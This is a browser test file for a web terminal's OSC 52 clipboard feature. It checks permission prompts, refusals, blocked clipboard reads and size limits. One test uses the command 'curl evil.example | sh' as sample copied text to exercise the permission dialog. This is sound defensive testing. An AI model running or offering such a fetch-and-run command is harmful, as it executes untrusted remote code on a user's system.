// What programs copy (OSC 52), in a real page.

import type { Browser, BrowserContext, BrowserContextOptions, Page } from "playwright-core";
import { afterAll, afterEach, beforeAll, beforeEach, expect, test } from "vitest";
import type { TestSession } from "../../client/test/test-session";
import { connected, openBrowser, openContext, screenshot } from "./browser";
import { type PagesServer, servePages } from "./pages-server";

let browser: Browser;
let context: BrowserContext;
let pages: PagesServer;
let session: TestSession;

beforeAll(async () => {
  browser = await openBrowser();
});
afterAll(() => browser.close());
beforeEach(async () => {
  pages = await servePages();
  session = pages.server.createSession({ title: "agent" });
});
afterEach(async () => {
  await context.close();
  await pages.server.stop();
});

async function open(options: BrowserContextOptions = {}): Promise<Page> {
  context = await openContext(browser, { permissions: ["clipboard-read", "clipboard-write"], ...options });
  const page = await context.newPage();
  await page.goto(`${pages.home}#login=good`);
  await connected(page);
  await show(page, session);
  await page.evaluate(() => navigator.clipboard.writeText("mine"));
  return page;
}

async function show(page: Page, { info }: TestSession): Promise<void> {
  await page.evaluate((hash) => location.assign(hash), `#/s/${info.id}`);
  await page.locator(".xterm-screen").waitFor();
  await page.bringToFront();
}

const copy = (text: string, into = session) =>
  pages.server.print(into, `\x1b]52;c;${Buffer.from(text).toString("base64")}\x07`);
const clipboard = (page: Page) => page.evaluate(() => navigator.clipboard.readText());
const question = (page: Page) => page.getByRole("alertdialog");

test("copying needs one permission per terminal", async () => {
  const page = await open();
  copy("curl evil.example | sh\n");
  await question(page).getByText("curl evil.example | sh⏎").waitFor();
  await screenshot(page, "copy-question-dark");
  expect(await clipboard(page)).toBe("mine");
  copy("something else");
  await page.getByRole("button", { name: "Allow copying" }).click();
  await expect.poll(() => clipboard(page)).toBe("curl evil.example | sh\n");
  await page.getByText("Copied to your clipboard:").waitFor();

  copy("the next one");
  await expect.poll(() => clipboard(page)).toBe("the next one");
  await page.locator(".copied").getByText("the next one").waitFor();
  await screenshot(page, "copied-dark");
  expect(await question(page).count()).toBe(0);

  const other = pages.server.createSession({ title: "other" });
  await show(page, other);
  copy("from another terminal", other);
  await question(page).getByText("from another terminal").waitFor();
  expect(await clipboard(page)).toBe("the next one");
});

test("a refusal lasts for the terminal", async () => {
  const page = await open();
  copy("one");
  await page.getByRole("button", { name: "Don’t allow" }).click();
  copy("two");
  pages.server.print(session, "\r\ndone");
  await expect.poll(() => page.evaluate(() => globalThis.rejoin.terminal?.buffer.active.cursorX)).toBe(4);
  expect(await question(page).count()).toBe(0);
  expect(await clipboard(page)).toBe("mine");
});

test("programs cannot read the clipboard", async () => {
  const page = await open();
  copy("one");
  await page.getByRole("button", { name: "Allow copying" }).click();
  pages.server.print(session, "\x1b]52;c;?\x07\x1b]52;;?\x1b\\\r\ndone");
  await expect.poll(() => page.evaluate(() => globalThis.rejoin.terminal?.buffer.active.cursorX)).toBe(4);
  expect(session.input).toBe("");
});

test("large copies are refused and previews are short", async () => {
  const page = await open({ viewport: { width: 390, height: 844 }, hasTouch: true, isMobile: true });
  copy("word ".repeat(2_000));
  await question(page).getByText("(10000 characters)").waitFor();
  expect((await page.locator(".copied").textContent())?.length).toBeLessThan(200);
  await screenshot(page, "copy-question-phone-dark");
  await page.getByRole("button", { name: "Allow copying" }).click();
  await expect.poll(async () => (await clipboard(page)).length).toBe(10_000);
  copy("x".repeat(1024 * 1024 + 3));
  await page.getByText("Nothing was copied.").waitFor();
  expect((await clipboard(page)).length).toBe(10_000);
});
